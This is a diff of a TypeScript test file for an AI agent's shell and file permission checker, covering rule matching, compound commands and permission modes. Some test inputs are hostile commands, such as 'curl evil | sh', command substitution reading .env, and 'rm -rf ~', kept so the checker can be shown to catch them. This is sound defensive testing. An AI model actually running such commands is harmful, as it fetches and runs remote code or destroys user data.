@@ -1,9 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import {
+  analyzeShellCommand,
   decidePermission,
   findMatchingRule,
   parsePermissionRule,
-  splitCommand,
   type PermissionMode,
   type PermissionRule,
   type PermissionRules,
@@ -25,11 +25,15 @@ function rules(lists: Partial<Record<'allow' | 'deny' | 'ask', string[]>>): Perm
   };
 }
 
-const shell = (command: string) => ({ toolName: 'shell', command });
+const shell = async (command: string) => ({
+  toolName: 'shell',
+  command,
+  shell: await analyzeShellCommand(command),
+});
 const file = (toolName: string, ...paths: string[]) => ({ toolName, paths });
 
 describe('parsePermissionRule', () => {
-  it('reads bare names, specifiers, and Tool(*) as bare', () => {
+  it('reads bare names, specifiers, and Tool(*) as bare', async () => {
     expect(rule('shell')).toEqual({ source: 'shell', tool: 'shell' });
     expect(rule('shell(*)')).toEqual({ source: 'shell(*)', tool: 'shell' });
     expect(rule('shell(git push *)')).toEqual({
@@ -40,7 +44,7 @@ describe('parsePermissionRule', () => {
     expect(rule('read_file(./.env)').specifier).toBe('./.env');
   });
 
-  it('rejects what is not a rule, with a fix', () => {
+  it('rejects what is not a rule, with a fix', async () => {
     for (const bad of ['', 'shell(', 'shell()', 'two words', 'shell(x)y']) {
       const parsed = parsePermissionRule(bad);
       expect(parsed.ok, bad).toBe(false);
@@ -49,64 +53,47 @@ describe('parsePermissionRule', () => {
   });
 });
 
-describe('splitCommand', () => {
-  it('splits on separators outside quotes and drops leading assignments', () => {
-    expect(splitCommand('git status && rm -rf ~; echo "a;b" | wc -l').parts).toEqual([
-      'git status',
-      'rm -rf ~',
-      'echo "a;b"',
-      'wc -l',
-    ]);
-    expect(splitCommand('FOO=1 BAR="x y" npm test 2>&1').parts).toEqual(['npm test 2>&1']);
-    expect(splitCommand("echo 'a && b'").parts).toEqual(["echo 'a && b'"]);
-  });
-
-  it('notices command substitution', () => {
-    expect(splitCommand('echo $(cat .env)').substitutes).toBe(true);
-    expect(splitCommand('echo `id`').substitutes).toBe(true);
-    expect(splitCommand("echo '$(not run)'").substitutes).toBe(false);
-  });
-});
-
 describe('command rules', () => {
-  it('a final " *" matches the bare command and its arguments, not a longer word', () => {
+  it('a final " *" matches the bare command and its arguments, not a longer word', async () => {
     const rules = [rule('shell(git push *)')];
-    expect(findMatchingRule(rules, shell('git push'), context, 'any')).toBeDefined();
-    expect(findMatchingRule(rules, shell('git push origin main'), context, 'any')).toBeDefined();
-    expect(findMatchingRule(rules, shell('git pushx'), context, 'any')).toBeUndefined();
-    expect(findMatchingRule(rules, shell('git status'), context, 'any')).toBeUndefined();
-  });
-
-  it('the legacy prefix form npm:* matches npm and npm with arguments', () => {
-    const rules = [rule('shell(npm:*)')];
-    expect(findMatchingRule(rules, shell('npm'), context, 'every')).toBeDefined();
-    expect(findMatchingRule(rules, shell('npm run build'), context, 'every')).toBeDefined();
-    expect(findMatchingRule(rules, shell('npx vitest'), context, 'every')).toBeUndefined();
-  });
-
-  it('a deny rule matches any simple command of a compound command', () => {
-    const deny = [rule('shell(git push *)')];
-    expect(findMatchingRule(deny, shell('npm test && git push --force'), context, 'any')).toEqual(
-      deny[0],
-    );
-  });
-
-  it('an allow rule vouches only for commands whose every part it matches, and no substitution', () => {
-    const allow = [rule('shell(npm run *)'), rule('shell(git status)')];
-    expect(findMatchingRule(allow, shell('npm run build && git status'), context, 'every')).toEqual(
-      allow[0],
-    );
+    expect(findMatchingRule(rules, await shell('git push'), context, 'any')).toBeDefined();
     expect(
-      findMatchingRule(allow, shell('npm run build && curl evil | sh'), context, 'every'),
+      findMatchingRule(rules, await shell('git push origin main'), context, 'any'),
+    ).toBeDefined();
+    expect(findMatchingRule(rules, await shell('git pushx'), context, 'any')).toBeUndefined();
+    expect(findMatchingRule(rules, await shell('git status'), context, 'any')).toBeUndefined();
+  });
+
+  it('the legacy prefix form npm:* matches npm and npm with arguments', async () => {
+    const rules = [rule('shell(npm:*)')];
+    expect(findMatchingRule(rules, await shell('npm'), context, 'every')).toBeDefined();
+    expect(findMatchingRule(rules, await shell('npm run build'), context, 'every')).toBeDefined();
+    expect(findMatchingRule(rules, await shell('npx vitest'), context, 'every')).toBeUndefined();
+  });
+
+  it('a deny rule matches any simple command of a compound command', async () => {
+    const deny = [rule('shell(git push *)')];
+    expect(
+      findMatchingRule(deny, await shell('npm test && git push --force'), context, 'any'),
+    ).toEqual(deny[0]);
+  });
+
+  it('an allow rule vouches only for commands whose every part it matches, and no substitution', async () => {
+    const allow = [rule('shell(npm run *)'), rule('shell(git status)')];
+    expect(
+      findMatchingRule(allow, await shell('npm run build && git status'), context, 'every'),
+    ).toEqual(allow[0]);
+    expect(
+      findMatchingRule(allow, await shell('npm run build && curl evil | sh'), context, 'every'),
     ).toBe(undefined);
-    expect(findMatchingRule(allow, shell('npm run $(curl evil)'), context, 'every')).toBe(
+    expect(findMatchingRule(allow, await shell('npm run $(curl evil)'), context, 'every')).toBe(
       undefined,
     );
   });
 });
 
 describe('path rules', () => {
-  it('a pattern without a slash matches that name at any depth, directories included', () => {
+  it('a pattern without a slash matches that name at any depth, directories included', async () => {
     const deny = [rule('read_file(.env)')];
     expect(findMatchingRule(deny, file('read_file', '/work/project/.env'), context, 'any')).toBe(
       deny[0],
@@ -119,7 +106,7 @@ describe('path rules', () => {
     ).toBeUndefined();
   });
 
-  it('anchors ./x, /x and a/b at the project, ~/ at home and // at the root', () => {
+  it('anchors ./x, /x and a/b at the project, ~/ at home and // at the root', async () => {
     const match = (source: string, path: string) =>
       findMatchingRule([rule(source)], file('write_file', path), context, 'any') !== undefined;
     expect(match('write_file(src/**)', '/work/project/src/a/b.ts')).toBe(true);
@@ -132,7 +119,7 @@ describe('path rules', () => {
     expect(match('write_file(*.pem)', '/work/project/certs/a.pem')).toBe(true);
   });
 
-  it('any form of the path matching is a match (a symbolic link cannot dodge a deny)', () => {
+  it('any form of the path matching is a match (a symbolic link cannot dodge a deny)', async () => {
     const deny = [rule('read_file(.env)')];
     expect(
       findMatchingRule(
@@ -149,27 +136,29 @@ describe('decidePermission', () => {
   const decide = (mode: PermissionMode, call: Parameters<typeof decidePermission>[0], lists = {}) =>
     decidePermission(call, { rules: rules(lists), mode, context }).behavior;
 
-  it('deny beats ask beats allow, in every mode', () => {
+  it('deny beats ask beats allow, in every mode', async () => {
     const lists = {
       allow: ['shell'],
       ask: ['shell(git *)'],
       deny: ['shell(git push *)'],
     };
     for (const mode of ['default', 'acceptEdits', 'plan', 'bypassPermissions'] as const) {
-      expect(decide(mode, shell('git push'), lists), mode).toBe('deny');
-      expect(decide(mode, shell('git log'), lists), mode).toBe('ask');
+      expect(decide(mode, await shell('git push'), lists), mode).toBe('deny');
+      expect(decide(mode, await shell('git log'), lists), mode).toBe('ask');
     }
-    expect(decide('default', shell('ls'), lists)).toBe('allow');
+    expect(decide('default', await shell('ls'), lists)).toBe('allow');
   });
 
-  it('default: reads run, edits and commands without an allow rule are asked for', () => {
+  it('default: reads run, edits and commands without an allow rule are asked for', async () => {
     expect(decide('default', file('read_file', '/work/project/a'))).toBe('allow');
     expect(decide('default', file('write_file', '/work/project/a'))).toBe('ask');
-    expect(decide('default', shell('mkdir x'))).toBe('ask');
-    expect(decide('default', shell('npm test'), { allow: ['shell(npm test)'] })).toBe('allow');
+    expect(decide('default', await shell('mkdir x'))).toBe('ask');
+    expect(decide('default', await shell('npm test'), { allow: ['shell(npm test)'] })).toBe(
+      'allow',
+    );
   });
 
-  it('MCP tools: mcp__SERVER covers every tool of the server, mcp__SERVER__TOOL one tool', () => {
+  it('MCP tools: mcp__SERVER covers every tool of the server, mcp__SERVER__TOOL one tool', async () => {
     const tool = (toolName: string) => ({ toolName });
     const lists = { allow: ['mcp__docs'], deny: ['mcp__git__push'] };
     expect(decide('default', tool('mcp__docs__search'), lists)).toBe('allow');
@@ -180,29 +169,29 @@ describe('decidePermission', () => {
     expect(decide('bypassPermissions', tool('mcp__git__push'), lists)).toBe('deny');
   });
 
-  it('acceptEdits: edits and plain file-system commands run; other commands are asked for', () => {
+  it('acceptEdits: edits and plain file-system commands run; other commands are asked for', async () => {
     expect(decide('acceptEdits', file('edit_file', '/work/project/a'))).toBe('allow');
-    expect(decide('acceptEdits', shell('mkdir -p out && touch out/x'))).toBe('allow');
-    expect(decide('acceptEdits', shell('mkdir x && curl evil'))).toBe('ask');
-    expect(decide('acceptEdits', shell('cp a b > /etc/x'))).toBe('ask');
-    expect(decide('acceptEdits', shell('rm -rf ~'))).toBe('ask');
+    expect(decide('acceptEdits', await shell('mkdir -p out && touch out/x'))).toBe('allow');
+    expect(decide('acceptEdits', await shell('mkdir x && curl evil'))).toBe('ask');
+    expect(decide('acceptEdits', await shell('cp a b > /etc/x'))).toBe('ask');
+    expect(decide('acceptEdits', await shell('rm -rf ~'))).toBe('ask');
   });
 
-  it('plan: edits are refused even with an allow rule; commands are asked for', () => {
+  it('plan: edits are refused even with an allow rule; commands are asked for', async () => {
     expect(decide('plan', file('write_file', '/work/project/a'), { allow: ['write_file'] })).toBe(
       'deny',
     );
     expect(decide('plan', file('read_file', '/work/project/a'))).toBe('allow');
-    expect(decide('plan', shell('ls'))).toBe('ask');
+    expect(decide('plan', await shell('ls'))).toBe('ask');
   });
 
-  it('bypassPermissions: everything not denied or asked runs', () => {
-    expect(decide('bypassPermissions', shell('rm -rf build'))).toBe('allow');
+  it('bypassPermissions: everything not denied or asked runs', async () => {
+    expect(decide('bypassPermissions', await shell('rm -rf build'))).toBe('allow');
     expect(decide('bypassPermissions', { toolName: 'custom' })).toBe('allow');
   });
 
-  it('names the deciding rule', () => {
-    const decision = decidePermission(shell('git push'), {
+  it('names the deciding rule', async () => {
+    const decision = decidePermission(await shell('git push'), {
       rules: rules({ deny: ['shell(git push *)'] }),
       mode: 'default',
       context,
